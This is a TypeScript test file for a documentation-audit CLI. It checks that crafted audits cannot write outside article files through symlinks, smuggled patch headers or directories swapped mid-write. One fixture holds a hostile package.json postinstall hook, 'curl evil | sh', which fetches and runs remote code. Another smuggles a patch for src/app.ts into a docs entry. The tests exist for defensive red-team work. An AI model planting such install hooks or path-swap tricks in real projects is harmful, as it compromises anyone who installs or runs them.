import {
  mkdirSync,
  readdirSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import { decideApply, gatherApplyFiles, StaleFiles, writeApply } from "../../cli/audit/apply-audit.js";
import { writeIfUnchanged } from "../../cli/edit/write-back.js";
import { main } from "../../cli/main.js";
import { articleSelector } from "../../cli/plan/articles.js";
import type { Audit } from "../../shared/audit.js";
import { DirectoryChanged, prepareAtomicWrite } from "../../shared/fs.js";
import { contentHash } from "../../shared/hash.js";
import { createFilePatch } from "../../shared/patch.js";
import { auditArticle, auditOf } from "../helpers/audit-fixture.js";
import { gitRepo, makeTempDir } from "../helpers/git-repo.js";
import { captureIo } from "../helpers/io.js";

// Red-team items 10-12 and 15: a crafted audit must not write files that are not articles,
// nor anywhere a directory swapped for a symlink while it ran would lead.

function writeAudit(dir: string, audit: Audit, name = "audit.json"): string {
  const path = join(dir, name);
  writeFileSync(path, JSON.stringify(audit));
  return path;
}

/** An updated-article entry whose patch turns `before` into `after` at `path`. */
function edited(path: string, before: string, after: string, patch = createFilePatch(path, before, after)) {
  return auditArticle(path, { patch, hashBefore: contentHash(before), hashAfter: contentHash(after) });
}

describe("impact apply with a crafted audit", () => {
  it("refuses an article-named symlink to a file that is not an article (docs/pkg.md -> ../package.json)", async () => {
    const pkg = '{ "name": "x", "scripts": {} }\n';
    const repo = gitRepo({ "package.json": pkg, "docs/a.md": "# A\n" });
    symlinkSync("../package.json", join(repo.dir, "docs/pkg.md"));
    const owned = '{ "name": "x", "scripts": { "postinstall": "curl evil | sh" } }\n';
    const io = captureIo(repo.dir);
    expect(
      await main(["apply", writeAudit(repo.dir, auditOf([edited("docs/pkg.md", pkg, owned)]))], io),
    ).toBe(2);
    expect(io.err).toBe(
      "impact apply: refusing to apply, nothing was written: docs/pkg.md: refused, it is a symlink (or under one) to package.json, which is not an article\n",
    );
    expect(readFileSync(join(repo.dir, "package.json"), "utf8")).toBe(pkg);
  });

  it("refuses a patch whose file headers name another file, in apply and in merge", async () => {
    const doc = "# A\n\nOld.\n";
    const repo = gitRepo({ "docs/a.md": doc, "src/app.ts": "export const a = 1;\n" });
    const smuggled = `${createFilePatch("docs/a.md", doc, "# A\n\nNew.\n")}${createFilePatch("src/app.ts", "export const a = 1;\n", "export const a = 666;\n")}`;
    const audit = auditOf([edited("docs/a.md", doc, "# A\n\nNew.\n", smuggled)]);
    const applied = captureIo(repo.dir);
    expect(await main(["apply", writeAudit(repo.dir, audit)], applied)).toBe(2);
    expect(applied.err).toMatch(
      /docs\/a\.md: refused, its patch has a file header for another file \("diff --git a\/src\/app\.ts/,
    );
    const merged = captureIo(repo.dir);
    const args = [
      "merge",
      writeAudit(repo.dir, audit),
      "--out",
      join(repo.dir, "merged.json"),
      "--patch",
      join(repo.dir, "all.patch"),
    ];
    expect(await main(args, merged)).toBe(2);
    expect(merged.err).toMatch(/^impact merge: docs\/a\.md: its patch has a file header for another file/);
    expect(readFileSync(join(repo.dir, "src/app.ts"), "utf8")).toBe("export const a = 1;\n");
  });

  it("a docs directory swapped for a symlink between the check and the write fails closed (apply TOCTOU)", async () => {
    const doc = "# Guide\n\nOld.\n";
    const repo = gitRepo({ "docs/sub/guide.md": doc });
    const outside = makeTempDir("impact-outside-");
    writeFileSync(join(outside, "guide.md"), doc);
    const audit = auditOf([edited("docs/sub/guide.md", doc, "# Guide\n\nNew.\n")]);
    const config = { docs: ["docs/**/*.md"], ignore: [], deny: [] };
    const decision = decideApply(await gatherApplyFiles(audit, repo.dir, config), articleSelector(config));
    expect(decision.problems).toEqual([]);
    // The swap, between the check and the write.
    renameSync(join(repo.dir, "docs/sub"), join(repo.dir, "docs/sub-moved"));
    symlinkSync(outside, join(repo.dir, "docs/sub"));
    const refused = await writeApply(decision).catch((error: unknown) => error);
    expect(refused).toBeInstanceOf(StaleFiles);
    expect((refused as StaleFiles).problems).toEqual([
      "docs/sub/guide.md: refused, a directory on its path was replaced (by a symlink, or moved) after it was checked",
    ]);
    expect(readFileSync(join(outside, "guide.md"), "utf8")).toBe(doc);
    expect(readdirSync(outside)).toEqual(["guide.md"]);
    expect(readFileSync(join(repo.dir, "docs/sub-moved/guide.md"), "utf8")).toBe(doc);
    expect(readdirSync(join(repo.dir, "docs/sub-moved"))).toEqual(["guide.md"]);
  });

  it("a directory swapped after the temp file was written, before the rename, fails closed too", async () => {
    const root = makeTempDir("impact-swap-");
    const outside = makeTempDir("impact-outside-");
    mkdirSync(join(root, "docs"));
    writeFileSync(join(root, "docs/a.md"), "old\n");
    const target = join(realpathSync(root), "docs/a.md");
    const prepared = await prepareAtomicWrite(target, "new\n", { realDirectory: dirname(target) });
    renameSync(join(root, "docs"), join(root, "docs-moved"));
    symlinkSync(outside, join(root, "docs"));
    await expect(prepared.commit()).rejects.toBeInstanceOf(DirectoryChanged);
    await prepared.abort();
    expect(readdirSync(outside)).toEqual([]);
    expect(readdirSync(join(root, "docs-moved"))).toEqual(["a.md"]);
    expect(readFileSync(join(root, "docs-moved/a.md"), "utf8")).toBe("old\n");
  });

  it("impact edit and impact mcp write back through the same guard: a docs directory swapped for a symlink after the edit was checked fails closed", async () => {
    const doc = "# Guide\n\nOld.\n";
    const repo = gitRepo({ "docs/sub/guide.md": doc });
    const outside = makeTempDir("impact-outside-");
    // The attacker's copy has the same bytes, so the hash check alone would pass.
    writeFileSync(join(outside, "guide.md"), doc);
    const hashBefore = contentHash(Buffer.from(doc));
    // The swap, after the edit was made against docs/sub/guide.md and before it is written.
    renameSync(join(repo.dir, "docs/sub"), join(repo.dir, "docs/sub-moved"));
    symlinkSync(outside, join(repo.dir, "docs/sub"));
    const written = await writeIfUnchanged(
      repo.dir,
      { realPath: join(repo.dir, "docs/sub/guide.md") },
      hashBefore,
      "# Guide\n\nNew.\n",
    );
    expect(written.ok).toBe(false);
    expect("directoryChanged" in written && written.directoryChanged).toBeInstanceOf(DirectoryChanged);
    expect(readFileSync(join(outside, "guide.md"), "utf8")).toBe(doc);
    expect(readdirSync(outside)).toEqual(["guide.md"]);
    // Inside the repository the same call writes.
    rmSync(join(repo.dir, "docs/sub"));
    renameSync(join(repo.dir, "docs/sub-moved"), join(repo.dir, "docs/sub"));
    expect(
      await writeIfUnchanged(
        repo.dir,
        { realPath: join(repo.dir, "docs/sub/guide.md") },
        hashBefore,
        "# Guide\n\nNew.\n",
      ),
    ).toEqual({
      ok: true,
    });
    expect(readFileSync(join(repo.dir, "docs/sub/guide.md"), "utf8")).toBe("# Guide\n\nNew.\n");
    expect(readdirSync(join(repo.dir, "docs/sub"))).toEqual(["guide.md"]);
  });

  it("sweeps the stale temp files a killed apply left in the docs folder, and keeps fresh ones", async () => {
    const doc = "# A\n\nOld.\n";
    const repo = gitRepo({ "docs/a.md": doc });
    const stale = join(repo.dir, "docs", ".a.md.impact-0123456789ab.tmp");
    const fresh = join(repo.dir, "docs", ".a.md.impact-ba9876543210.tmp");
    writeFileSync(stale, "half written");
    writeFileSync(fresh, "being written by another apply");
    const anHourAgo = new Date(Date.now() - 60 * 60 * 1000);
    utimesSync(stale, anHourAgo, anHourAgo);
    const io = captureIo(repo.dir);
    expect(
      await main(["apply", writeAudit(repo.dir, auditOf([edited("docs/a.md", doc, "# A\n\nNew.\n")]))], io),
    ).toBe(0);
    expect(readFileSync(join(repo.dir, "docs/a.md"), "utf8")).toBe("# A\n\nNew.\n");
    expect(readdirSync(join(repo.dir, "docs")).sort()).toEqual([".a.md.impact-ba9876543210.tmp", "a.md"]);
  });
});
